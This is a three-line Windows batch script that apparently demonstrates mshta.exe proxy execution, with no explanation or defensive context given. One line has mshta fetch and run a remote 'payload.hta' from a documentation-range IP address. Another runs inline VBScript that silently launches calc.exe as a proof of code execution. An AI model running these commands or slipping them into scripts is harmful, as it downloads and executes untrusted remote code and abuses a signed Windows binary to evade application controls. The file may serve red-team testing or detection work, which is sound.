@echo off
mshta.exe http://198.51.100.23/payload.hta
mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc.exe"", 0:close")
